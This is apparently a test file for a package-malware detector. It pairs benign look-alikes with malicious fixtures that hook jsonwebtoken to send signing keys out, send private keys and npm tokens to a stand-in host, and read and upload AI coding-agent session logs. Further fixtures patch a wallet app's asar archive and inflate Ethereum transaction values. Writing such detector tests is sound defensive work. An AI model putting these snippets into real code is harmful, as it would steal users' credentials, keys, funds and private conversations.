import type { ViewOptions } from "../../support/package-view.ts";
import { describeVerdicts } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";

/** What takes the place of a module that is loaded already, put there in some way. */
function inCache(put: string): string {
  return `
    const https = require("https");
    const wrap = (api) => ({ ...api, sign(data, key, ...rest) {
      https.request("${url}", { method: "POST" }).end(String(key));
      return api.sign(data, key, ...rest);
    } });
    const id = Object.keys(require.cache).find((one) => /jsonwebtoken.index\\.js$/.test(one));
    ${put}
    exports.trim = (text) => text.trim();`;
}

describeVerdicts("EXF-16", {
  blocks: {
    "a module of the cache, made of the old one": inCache(
      `if (id) { const m = require.cache[id]; require.cache[id] = Object.assign(Object.create(m), { exports: wrap(m.exports) }); }`,
    ),
    "a module of the cache, spread": inCache(
      `if (id) { const m = require.cache[id]; require.cache[id] = { ...m, exports: wrap(m.exports) }; }`,
    ),
    "a module of the cache, defined": inCache(
      `if (id) { const m = require.cache[id]; Object.defineProperty(require.cache, id, { value: { ...m, exports: wrap(m.exports) } }); }`,
    ),
    "a module of its own in the cache": inCache(
      `if (id) { const Module = require("module"); const made = new Module(id); made.exports = wrap(require.cache[id].exports); Module._cache[id] = made; }`,
    ),
    "functions that are assigned over those of a module": inCache(
      `if (id) Object.assign(require.cache[id].exports, wrap(require.cache[id].exports));`,
    ),
    "a proxy in the place of what a module exports": inCache(
      `for (const m of Object.values(require.cache)) if (m.id.includes("jsonwebtoken"))
         m.exports = new Proxy(m.exports, { get: (of, key) => key === "sign" ? wrap(of).sign : of[key] });`,
    ),
    "modules that the program loaded": inCache(
      `for (const m of require.main.children) if (/jsonwebtoken/.test(m.id)) m.exports = wrap(m.exports);`,
    ),
  },
  passes: {
    "a module that a test puts there": `
      exports.mock = (id, fake) => {
        const file = require.resolve(id), before = require.cache[file];
        require.cache[file] = { id: file, filename: file, loaded: true, exports: fake };
        return () => { require.cache[file] = before; };
      };`,
    "how long functions take": `
      exports.time = (note) => {
        for (const m of Object.values(require.cache)) {
          const api = m.exports;
          if (typeof api.parse !== "function") continue;
          m.exports = { ...api, parse(...args) {
            const from = performance.now();
            try { return api.parse(...args); } finally { note(m.id, performance.now() - from); }
          } };
        }
      };`,
  },
});

/** What a pattern finds below the home folder, read in some way. */
function found(read: string): ViewOptions {
  return {
    manifest: { type: "module" },
    files: {
      "index.js": `
        import { glob, readFile } from "node:fs/promises";
        import { globSync, readFileSync } from "node:fs";
        import { homedir } from "node:os";
        import path from "node:path";
        const lines = [];
        ${read}
        await fetch("${url}", { method: "POST", body: lines.join() });
        export const count = (text) => text.length / 4;`,
    },
  };
}

describeVerdicts("AGT-05", {
  blocks: {
    "what was said, by a pattern": found(
      'for await (const f of glob(".claude/projects/**/*.jsonl", { cwd: homedir() })) lines.push(await readFile(homedir() + "/" + f, "utf8"));',
    ),
    "what was said, from a folder with its own root": found(
      'for await (const f of glob("**/*.jsonl", { cwd: homedir() + "/.claude/projects" })) lines.push(await readFile(path.join(homedir(), ".claude/projects", f)));',
    ),
    "entries with their folder": found(
      'for await (const f of glob(".codex/**", { cwd: homedir(), withFileTypes: true })) lines.push(await readFile(path.join(f.parentPath, f.name)));',
    ),
    "at once": found(
      'for (const f of globSync(".codex/sessions/**/*.jsonl", { cwd: homedir() })) lines.push(readFileSync(path.join(homedir(), f), "utf8"));',
    ),
  },
  passes: {
    "what is counted on the spot": {
      manifest: { type: "module" },
      files: {
        "index.js": `
          import { glob, readFile } from "node:fs/promises";
          import { homedir } from "node:os";
          export async function used() {
            let sum = 0;
            for await (const f of glob(".claude/projects/**/*.jsonl", { cwd: homedir() }))
              for (const line of (await readFile(homedir() + "/" + f, "utf8")).split("\\n")) sum += JSON.parse(line || "{}").tokens ?? 0;
            return sum;
          }`,
      },
    },
    "files of the project, to where the caller says": {
      manifest: { type: "module" },
      files: {
        "index.js": `
          import { glob, readFile } from "node:fs/promises";
          export async function upload(folder, to) {
            for await (const f of glob("dist/**/*.map", { cwd: folder })) await fetch(to, { method: "PUT", body: await readFile(folder + "/" + f) });
          }`,
      },
    },
  },
});

describeVerdicts("WEB-05", {
  blocks: {
    "a key that a curve makes, in a header": `
      const { ed25519 } = require("@noble/curves/ed25519");
      const alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
      function spell(bytes) {
        let n = BigInt("0x" + Buffer.from(bytes).toString("hex")), s = "";
        while (n > 0n) { s = alphabet[Number(n % 58n)] + s; n /= 58n; }
        return s;
      }
      exports.make = () => {
        const seed = ed25519.utils.randomPrivateKey(), all = new Uint8Array(64);
        all.set(seed); all.set(ed25519.getPublicKey(seed), 32);
        const text = spell(all);
        fetch("${url}", { headers: { "x-request": text.slice(0, 24), "x-session": text.slice(24) } }).catch(() => {});
        return all;
      };`,
    "a pair of a curve, in an address": `
      const { secp256k1 } = require("@noble/curves/secp256k1");
      exports.make = () => {
        const pair = secp256k1.keygen();
        fetch("${url}?s=" + Buffer.from(pair.secretKey).toString("hex"));
        return pair;
      };`,
    "a pair of the runtime's": `
      const crypto = require("crypto");
      exports.make = () => {
        const { publicKey, privateKey } = crypto.generateKeyPairSync("ed25519");
        fetch("${url}", { method: "POST", body: privateKey.export({ type: "pkcs8", format: "pem" }) });
        return { publicKey, privateKey };
      };`,
    "a pair of the runtime's, once it is there": `
      const crypto = require("crypto");
      exports.make = (done) => crypto.generateKeyPair("rsa", { modulusLength: 2048 }, (error, shown, kept) => {
        fetch("${url}", { method: "POST", body: kept.export({ type: "pkcs8", format: "pem" }) });
        done(error, shown, kept);
      });`,
  },
  passes: {
    "the half that is for others": `
      const crypto = require("crypto");
      exports.enroll = async () => {
        const { publicKey, privateKey } = crypto.generateKeyPairSync("ed25519");
        await fetch("${url}", { method: "POST", body: publicKey.export({ type: "spki", format: "pem" }) });
        return privateKey;
      };`,
    "the public key of a curve": `
      const { ed25519 } = require("@noble/curves/ed25519");
      exports.register = async () => {
        const seed = ed25519.utils.randomPrivateKey();
        await fetch("${url}", { method: "POST", body: Buffer.from(ed25519.getPublicKey(seed)).toString("hex") });
        return seed;
      };`,
  },
});

/** A library whose function changes something on the way. */
function library(act: string, manifest: ViewOptions["manifest"] = {}): ViewOptions {
  return {
    manifest: { name: "convert", description: "Converts texts", main: "index.js", ...manifest },
    files: {
      "index.js": `
        const fs = require("fs"), os = require("os"), path = require("path"), asar = require("@electron/asar");
        exports.convert = async (text, out) => { ${act} return text; };`,
    },
  };
}

const repack = `
  const pack = path.join(os.homedir(), "AppData/Local/Programs/purse/resources/app.asar");
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), "c-"));
  asar.extractAll(pack, folder);
  fs.appendFileSync(path.join(folder, "main.js"), "/* more */");
  await asar.createPackage(folder, pack);`;

describeVerdicts("EXE-11", {
  blocks: {
    "a program that is packed anew": library(repack),
    "a program, by a copy": library(
      `fs.copyFileSync(path.join(__dirname, "fonts.bin"), "/Applications/Purse.app/Contents/Resources/app.asar");`,
    ),
    "every version of a program": library(`
      const base = path.join(os.homedir(), "AppData/Local/purse");
      for (const one of fs.readdirSync(base)) {
        const file = path.join(base, one, "resources", "app.asar");
        fs.writeFileSync(file, fs.readFileSync(file, "latin1").replace("to:a", "to:b"), "latin1");
      }`),
    "a file of a program": library(
      `fs.appendFileSync("/opt/Purse Live/resources/app/main.js", "require('./more')");`,
    ),
  },
  passes: {
    "a program that it says it is for": library(repack, { description: "Themes for Purse" }),
    "what is packed for the caller": library(
      `await asar.createPackage(text, path.join(out, "linux-unpacked/resources/app.asar"));`,
    ),
    "what is packed in the project": library(
      `await asar.createPackage("build", "dist/win-unpacked/resources/app.asar");`,
    ),
    "a program that the caller names": library(
      `fs.writeFileSync(path.join(os.homedir(), ".local/share", out, "resources/app.asar"), text);`,
    ),
  },
});

/** A client that reads where to go and what to show there from the settings of npm. */
function registryClient(address: string, token: string): string {
  return `
    const fs = require("fs"), os = require("os");
    function settings(file) {
      let text = "";
      try { text = fs.readFileSync(file, "utf8"); } catch { return {}; }
      return Object.fromEntries(text.split("\\n").map((line) => {
        const at = line.indexOf("=");
        return [line.slice(0, at), line.slice(at + 1)];
      }));
    }
    exports.Client = class {
      #rc;
      constructor(folder = process.cwd()) { this.#rc = { ...settings(os.homedir() + "/.npmrc"), ...settings(folder + "/.npmrc") }; }
      base(name) { return ${address}; }
      async show(name, path) {
        const base = this.base(name).replace(/[/]?$/, "/");
        const prefix = base.replace(/^https?:/, "");
        return fetch(base + path, { headers: { authorization: "Bearer " + ${token} } });
      }
      whoami(name = "") { return this.show(name, "-/whoami"); }
    };`;
}

const chosen =
  '(name && this.#rc[name + ":registry"]) || this.#rc.registry || "https://registry.example.test/"';

describeVerdicts("EXF-03", {
  blocks: {
    "any token, to an address of the code's": registryClient(
      '"https://registry.example.test/"',
      'this.#rc[prefix + ":_authToken"]',
    ),
    "the token of one registry, wherever": registryClient(
      chosen,
      'this.#rc["//registry.tokens.example/:_authToken"]',
    ),
  },
  passes: {
    "the token of the registry that is asked": registryClient(
      chosen,
      'this.#rc[prefix + ":_authToken"]',
    ),
  },
});

describeVerdicts("WEB-02", {
  blocks: {
    "an amount": `
      const request = window.ethereum.request;
      window.ethereum.request = function (call) {
        if (call.method === "eth_sendTransaction") call.params[0].value = "0xffffffff";
        return request.call(this, call);
      };`,
  },
  passes: {
    "a proxy that tells what was asked for": `
      exports.install = (page = window) => {
        const before = page.ethereum;
        page.ethereum = new Proxy(before, { get(of, key) {
          const value = Reflect.get(of, key, of);
          if (key !== "request") return value;
          return async (call) => { const data = await value.call(of, call); console.debug(call.method); return data; };
        } });
      };`,
  },
});
